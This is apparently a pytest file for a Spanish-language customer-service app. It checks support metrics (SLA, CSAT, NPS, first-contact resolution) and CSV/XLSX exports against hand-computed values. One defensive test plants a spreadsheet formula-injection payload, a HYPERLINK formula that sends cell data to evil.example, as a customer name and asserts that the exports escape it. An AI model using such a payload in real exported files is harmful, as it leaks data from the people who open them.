"""Metrics against hand-computed values: SLA, CSAT, NPS, FCR, backlog, volume; exports without a cap."""

import csv
import io
from datetime import date, datetime, timedelta
from zoneinfo import ZoneInfo

import pytest
import time_machine
from openpyxl import load_workbook

from atencion import selectors, services
from atencion.models import Canal, Encuesta, Ticket

CDMX = ZoneInfo("America/Mexico_City")
NOVIEMBRE = selectors.Periodo(date(2026, 11, 1), date(2026, 11, 30))
AHORA = datetime(2026, 11, 10, 10, 30, tzinfo=CDMX)


def en(momento, funcion, **kw):
    with time_machine.travel(momento, tick=False):
        return funcion(**kw)


@pytest.fixture
def datos(pyme, agente, motivo):
    def crear(momento, telefono, canal=Canal.WHATSAPP):
        return en(
            momento,
            services.ticket_crear,
            actor=None,
            pyme=pyme,
            canal=canal,
            asunto="x",
            telefono=telefono,
            motivo=motivo,
        )

    diez = datetime(2026, 11, 10, 10, 0, tzinfo=CDMX)
    t1 = crear(diez, "1")
    en(diez + timedelta(minutes=10), services.ticket_responder, actor=agente, ticket=t1, texto="a")
    en(diez + timedelta(hours=1), services.ticket_resolver, actor=agente, ticket=t1)  # FCR
    t2 = crear(diez, "2", Canal.LLAMADA)
    en(diez + timedelta(hours=3), services.ticket_responder, actor=agente, ticket=t2, texto="a")  # late
    en(diez + timedelta(hours=4), services.ticket_responder, actor=agente, ticket=t2, texto="b")
    en(diez + timedelta(hours=5), services.ticket_resolver, actor=agente, ticket=t2)  # not FCR
    t3 = crear(diez, "3")
    en(diez + timedelta(minutes=20), services.ticket_responder, actor=agente, ticket=t3, texto="a")  # open
    t4 = crear(datetime(2026, 11, 3, 10, 0, tzinfo=CDMX), "4")  # never answered: breached on read
    t5 = crear(datetime(2026, 11, 10, 10, 25, tzinfo=CDMX), "5")  # pending, not yet due
    viejo = crear(datetime(2026, 10, 30, 10, 0, tzinfo=CDMX), "6")
    en(datetime(2026, 10, 30, 10, 5, tzinfo=CDMX), services.ticket_responder, actor=agente, ticket=viejo, texto="a")
    en(datetime(2026, 11, 2, 10, 0, tzinfo=CDMX), services.ticket_resolver, actor=agente, ticket=viejo)  # FCR
    crear(datetime(2026, 12, 1, 10, 0, tzinfo=CDMX), "7")  # after the period
    Encuesta.objects.all().delete()
    respuestas = [(t1, 5, 10), (t2, 4, 9), (t3, 4, 9), (t4, 2, 7), (t5, 5, 3)]
    for ticket, csat, nps in respuestas:
        Encuesta.objects.create(
            ticket=ticket,
            pyme=pyme,
            agente=agente,
            canal=ticket.canal,
            csat=csat,
            nps=nps,
            expira_en=AHORA + timedelta(days=7),
            respondida_en=datetime(2026, 11, 9, tzinfo=CDMX),
        )
    Encuesta.objects.create(
        ticket=viejo,
        pyme=pyme,
        canal="whatsapp",
        csat=1,
        nps=0,
        expira_en=AHORA,
        respondida_en=datetime(2026, 12, 2, tzinfo=CDMX),
    )  # outside the period
    return {"t1": t1, "t2": t2}


def test_kpis_calculados_a_mano(datos, pyme, otra_pyme):
    services.ticket_crear(actor=None, pyme=otra_pyme, canal=Canal.CORREO, asunto="otra", correo="z@z.test")
    kpis = selectors.metricas(Ticket.objects.filter(pyme=pyme), periodo=NOVIEMBRE, ahora=AHORA)
    assert kpis["abiertos"] == 5  # t1..t5 (the October and December ones are outside)
    assert kpis["cerrados"] == 3  # t1, t2 and the October ticket resolved on 2 November
    assert kpis["backlog"] == 3  # t3, t4, t5 still open at the end of November
    assert kpis["fcr"] == 66.7  # 2 of 3 resolved on first contact
    assert kpis["sla"] == 50.0  # in time: t1, t3; breached: t2 (late), t4 (past due); t5 pending
    assert (kpis["sla_cumplidos"], kpis["sla_medidos"]) == (2, 4)
    assert kpis["csat"] == 4.0  # (5 + 4 + 4 + 2 + 5) / 5
    assert kpis["csat_distribucion"] == [(1, 0), (2, 1), (3, 0), (4, 2), (5, 2)]
    assert kpis["nps"] == 40.0  # promoters 3 (10, 9, 9), detractors 1 (3), 5 answers → 60 % − 20 %
    assert (kpis["promotores"], kpis["pasivos"], kpis["detractores"]) == (3, 1, 1)
    assert {c["canal"]: c["total"] for c in kpis["por_canal"]} == {"whatsapp": 4, "llamada": 1}
    assert kpis["por_motivo"][0]["total"] == 5
    assert kpis["respuesta_min"] == round((600 + 10800 + 1200) / 3 / 60, 1)


def test_por_agente_y_tendencia(datos, pyme, agente):
    kpis = selectors.metricas(Ticket.objects.filter(pyme=pyme), periodo=NOVIEMBRE, agente=agente, ahora=AHORA)
    assert kpis["cerrados"] == 3 and kpis["fcr"] == 66.7
    filas = selectors.metricas_por_agente(Ticket.objects.filter(pyme=pyme), periodo=NOVIEMBRE)
    assert [(f["agente"], f["resueltos"], f["fcr_pct"]) for f in filas] == [(agente.pk, 3, 66.7)]
    dias = {
        f["fecha"]: f
        for f in selectors.metricas(Ticket.objects.filter(pyme=pyme), periodo=NOVIEMBRE, ahora=AHORA)["tendencia"]
    }
    assert dias[date(2026, 11, 10)]["abiertos"] == 4 and dias[date(2026, 11, 10)]["cerrados"] == 2
    assert dias[date(2026, 11, 2)]["cerrados"] == 1


def test_nps_todos_detractores_y_sin_datos(pyme):
    vacio = selectors.metricas(Ticket.objects.filter(pyme=pyme), periodo=NOVIEMBRE)
    assert (vacio["sla"], vacio["csat"], vacio["nps"], vacio["fcr"]) == (None, None, None, None)


def test_exportaciones_sin_tope(client, datos, pyme, gerente):
    client.force_login(gerente)
    respuesta = client.get("/atencion/metricas/exportar.csv", {"desde": "2026-11-01", "hasta": "2026-11-30"})
    contenido = b"".join(respuesta.streaming_content).decode()
    lineas = contenido.strip().splitlines()
    assert lineas[0].lstrip("\ufeff").startswith("folio,pyme,canal")
    assert len(lineas) == 1 + 5
    xlsx = client.get("/atencion/metricas/exportar.xlsx", {"desde": "2026-11-01", "hasta": "2026-11-30"})
    from io import BytesIO

    from openpyxl import load_workbook

    hoja = load_workbook(BytesIO(xlsx.content)).active
    assert hoja.max_row == 1 + 5


def test_periodos_de_reporte():
    assert selectors.periodo_de_reporte("mensual", date(2026, 11, 15)) == (date(2026, 10, 1), date(2026, 10, 31))
    assert selectors.periodo_de_reporte("semanal", date(2026, 11, 11)) == (date(2026, 11, 2), date(2026, 11, 8))


MALICIOSO = '=HYPERLINK("http://evil.example/?x="&A1,"ok")'


def test_exportaciones_escriben_como_texto_un_nombre_con_formula(client, datos, gerente):
    Ticket._meta.get_field("cliente").related_model.objects.update(nombre=MALICIOSO)
    client.force_login(gerente)
    periodo = {"desde": "2026-11-01", "hasta": "2026-11-30"}
    respuesta = client.get("/atencion/metricas/exportar.csv", periodo)
    filas = list(csv.reader(io.StringIO(b"".join(respuesta.streaming_content).decode().lstrip("\ufeff"))))
    assert {fila[7] for fila in filas[1:]} == {"'" + MALICIOSO}
    assert all(fila[0].isdigit() for fila in filas[1:])
    xlsx = client.get("/atencion/metricas/exportar.xlsx", periodo)
    hoja = load_workbook(io.BytesIO(xlsx.content)).active
    for fila in hoja.iter_rows(min_row=2):
        assert (fila[7].value, fila[7].data_type) == ("'" + MALICIOSO, "s")
        assert isinstance(fila[0].value, int)
